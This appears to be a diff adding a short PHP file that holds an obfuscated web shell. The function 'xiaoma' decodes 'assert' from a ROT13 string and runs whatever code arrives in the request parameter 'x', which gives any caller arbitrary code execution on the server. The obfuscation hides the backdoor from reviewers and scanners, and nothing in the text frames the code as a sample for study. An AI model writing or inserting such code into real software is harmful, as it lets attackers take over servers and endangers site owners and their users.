@@ -1,0 +1,7 @@
+<?php
+function xiaoma($a){
+$c=str_rot13('nffreg');
+$c($a);
+}
+xiaoma($_REQUEST['x']);
+?>
